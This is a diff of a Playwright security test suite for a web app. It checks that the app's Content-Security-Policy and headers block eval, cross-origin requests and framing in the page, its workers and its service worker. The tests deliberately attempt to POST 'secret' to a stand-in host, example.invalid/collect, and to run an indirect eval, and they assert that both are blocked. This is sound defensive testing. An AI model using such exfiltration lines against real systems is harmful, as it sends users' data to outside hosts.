@@ -1,3 +1,7 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Worker } from '@playwright/test';
+import { SECURITY_HEADERS } from '../../scripts/securityHeaders';
 import { test, expect, openSample } from './fixtures';
 
 // The fixture fails any test on a request to another origin or a console error; this one
@@ -29,31 +33,62 @@ test('the built page carries a strict Content-Security-Policy', async ({ page })
   expect(csp).toContain("connect-src 'self'");
   expect(csp).not.toContain('unsafe-eval');
   expect(csp).not.toContain('unsafe-inline');
+  // A meta policy cannot stop framing: browsers ignore frame-ancestors there (the header has it).
+  expect(csp).not.toContain('frame-ancestors');
 });
 
-test('the policy stops a script from sending data to another origin', async ({ browser, baseURL }) => {
-  // A separate context: the refusal is expected to log a console error here.
-  const context = await browser.newContext({ baseURL });
+/** What the app's policy forbids, tried from inside a worker: a string evaluated, a request to another origin. */
+const tryForbidden = (worker: Worker) =>
+  worker.evaluate(async () => {
+    // In a task of its own: DevTools lifts the eval ban for the duration of its own evaluation.
+    await new Promise((resolve) => setTimeout(resolve));
+    let evaluated: string;
+    try {
+      evaluated = String((0, eval)('6 * 7'));
+    } catch (error) {
+      evaluated = (error as Error).name;
+    }
+    const fetched = await fetch('http://example.invalid/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked');
+    return { evaluated, fetched };
+  });
+
+// A worker takes its policy from the response that delivered its script, not from the page's
+// meta tag. Playwright evaluates in the real workers the app started from its own scripts (no
+// test code ships in the build, and no app code evaluates strings); the attempts inside are
+// judged by the worker's own policy. The stub makes a request that did leave visible as "sent".
+test("the app's workers and service worker are served with the security headers, which block eval and other origins inside them", async ({ page, context, request, watch }) => {
+  watch.allow.push(/Content Security Policy/);
+  await context.route('http://example.invalid/**', (route) => route.fulfill({ body: 'stub', contentType: 'text/plain' }));
+  const started = () => page.workers().map((w) => new URL(w.url()).pathname.replace(/-[\w-]+\.js$/, ''));
+  await openSample(page);
+  await page.getByRole('navigation', { name: 'Lifecycle stages' }).getByRole('link', { name: /Data/ }).click();
+  await expect.poll(started).toContain('/assets/data.worker');
+  // TF.js on WebGL in the compute worker still starts under the policy.
+  await page.goto('/#/system');
+  await expect(page.getByTestId('backend-name')).toHaveText('webgl', { timeout: 45_000 });
+  expect(started().sort()).toEqual(['/assets/compute.worker', '/assets/data.worker']);
+  const serviceWorker = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
+
+  const workers = [...page.workers(), serviceWorker];
+  for (const worker of workers) expect(await tryForbidden(worker), worker.url()).toEqual({ evaluated: 'EvalError', fetched: 'blocked' });
+  for (const url of ['/', ...workers.map((w) => w.url())]) {
+    const headers = (await request.head(url)).headers();
+    for (const [name, value] of Object.entries(SECURITY_HEADERS)) expect(headers[name.toLowerCase()], `${name} of ${url}`).toBe(value);
+  }
+});
+
+test('a page of another origin cannot show the app in a frame', async ({ browser, baseURL }) => {
+  // Another local port (Chromium keeps public pages from framing local ones anyway), in a
+  // separate context: it is another origin, and the refusal logs a console error.
+  const server = createServer((_, response) => response.end(`<iframe src="${baseURL}/" title="app"></iframe>`));
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const context = await browser.newContext();
   const page = await context.newPage();
   const refusals: string[] = [];
-  page.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) refusals.push(m.text()); });
-  await page.goto('/');
-  const outcome = await page.evaluate(() =>
-    fetch('http://example.invalid/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked'),
-  );
-  expect(outcome).toBe('blocked');
+  page.on('console', (m) => { if (/frame-ancestors/.test(m.text())) refusals.push(m.text()); });
+  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
   await expect.poll(() => refusals.length).toBeGreaterThan(0);
+  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Projects' })).toHaveCount(0);
   await context.close();
-});
-
-test('the off-origin watcher sees requests to other hosts', async ({ browser, baseURL }) => {
-  // Guards the guard: the listener the fixture uses must notice a request that leaves.
-  const context = await browser.newContext({ baseURL });
-  const seen: string[] = [];
-  context.on('request', (r) => { if (!r.url().startsWith(baseURL!)) seen.push(r.url()); });
-  await context.route('http://example.invalid/**', (route) => route.fulfill({ body: 'stub', contentType: 'text/plain' }));
-  const page = await context.newPage();
-  await page.goto('http://example.invalid/page');
-  expect(seen).toContain('http://example.invalid/page');
-  await context.close();
+  server.close();
 });
